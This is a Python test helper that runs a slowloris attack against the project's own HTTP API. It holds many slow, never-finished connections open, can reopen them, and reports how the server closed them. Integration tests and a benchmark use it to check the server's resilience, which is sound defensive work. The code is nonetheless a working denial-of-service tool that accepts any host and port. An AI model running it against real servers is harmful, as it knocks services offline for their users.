"""A slowloris on the HTTP API, as an outsider with no token would run it: COUNT
connections (TLS with --tls) that each send the start of a request head, then one more
header line every INTERVAL seconds, and never finish it. With --reconnect, each
connection the server closes is opened again (a refused one after half a second), as
an attack that keeps its count up would, until SECONDS have passed.

Run as a process of its own, so that its event loop and its handshakes share nothing
with whoever measures the API meanwhile: `python tests/slowloris.py HOST PORT COUNT
INTERVAL SECONDS [--tls] [--reconnect] [--source ADDRESS]`. It prints `ready` once each
of the COUNT connections has been tried once, then, after SECONDS (or once the server
has closed them all, without --reconnect), one JSON line: how many connections it
opened, how many the server refused (reset or closed before or during the TLS
handshake), the seconds after its opening at which the server closed each one it
closed (as the fewest, the median and the most), and how many were open at the end.
Stdlib only. Shared by tests/integration/test_api_slowloris.py and
bench/bench_slowloris.py.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import ssl
import sys
import time
from dataclasses import dataclass, field

HEAD = b"GET /api/v1/nodes HTTP/1.1\r\nHost: gbatch\r\nUser-Agent: slowloris\r\n"


@dataclass
class Tally:
    opened: int = 0
    refused: int = 0
    closed_after: list[float] = field(default_factory=list)
    open_at_end: int = 0

    def line(self) -> str:
        closed = sorted(self.closed_after)
        shown = None
        if closed:
            shown = [round(t, 2) for t in (closed[0], closed[len(closed) // 2], closed[-1])]
        return json.dumps(
            {
                "opened": self.opened,
                "refused": self.refused,
                "closed": len(closed),
                "closed_after_min_median_max": shown,
                "open_at_end": self.open_at_end,
            }
        )


async def slow_client(
    host: str,
    port: int,
    source: str,
    context: ssl.SSLContext | None,
    interval: float,
    tally: Tally,
    tried: asyncio.Event,
    stop_at: float,
    reconnect: bool,
) -> None:
    """One connection until `stop_at`: the head's first lines, then a header line every
    `interval`; with `reconnect`, opened again once the server closes it."""
    while time.monotonic() < stop_at:
        opened = await slow_connection(host, port, source, context, interval, tally, tried, stop_at)
        if not reconnect:
            return
        if not opened:
            await asyncio.sleep(0.5)


async def slow_connection(
    host: str,
    port: int,
    source: str,
    context: ssl.SSLContext | None,
    interval: float,
    tally: Tally,
    tried: asyncio.Event,
    stop_at: float,
) -> bool:
    """One slow connection, until the server closes it or `stop_at`: False if refused.

    `tried` is set once it is open, or refused."""
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, ssl=context, local_addr=(source, 0)), 30
        )
        writer.write(HEAD)
        await writer.drain()
    except (OSError, ssl.SSLError, TimeoutError):
        tally.refused += 1
        tried.set()
        return False
    tally.opened += 1
    tried.set()
    opened = time.monotonic()
    try:
        while time.monotonic() < stop_at:
            try:
                data = await asyncio.wait_for(reader.read(4096), interval)
            except TimeoutError:
                writer.write(b"X-Slow: still-coming\r\n")
                await writer.drain()
                continue
            if not data:
                break
            # A response (408, 503, ...): the server is done with it; read to its end.
        else:
            tally.open_at_end += 1
            writer.close()
            return True
    except (OSError, ssl.SSLError):
        pass
    tally.closed_after.append(time.monotonic() - opened)
    writer.close()
    return True


async def attack(
    host: str,
    port: int,
    source: str,
    count: int,
    interval: float,
    seconds: float,
    *,
    tls: bool,
    reconnect: bool,
) -> Tally:
    context = None
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    tally = Tally()
    stop_at = time.monotonic() + seconds
    clients, tried = [], []
    for _ in range(count):
        tried.append(asyncio.Event())
        clients.append(
            asyncio.ensure_future(
                slow_client(
                    host, port, source, context, interval, tally, tried[-1], stop_at, reconnect
                )
            )
        )
        await asyncio.sleep(0)  # the connections open one after another, as fast as may be
    for event in tried:
        await event.wait()
    print("ready", flush=True)
    await asyncio.gather(*clients)
    return tally


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("count", type=int)
    parser.add_argument("interval", type=float)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--reconnect", action="store_true")
    parser.add_argument(
        "--source", default="127.0.0.1", help="the address to connect from (any of 127/8)"
    )
    args = parser.parse_args()
    tally = asyncio.run(
        attack(
            args.host,
            args.port,
            args.source,
            args.count,
            args.interval,
            args.seconds,
            tls=args.tls,
            reconnect=args.reconnect,
        )
    )
    print(tally.line(), flush=True)


if __name__ == "__main__":
    sys.exit(main())
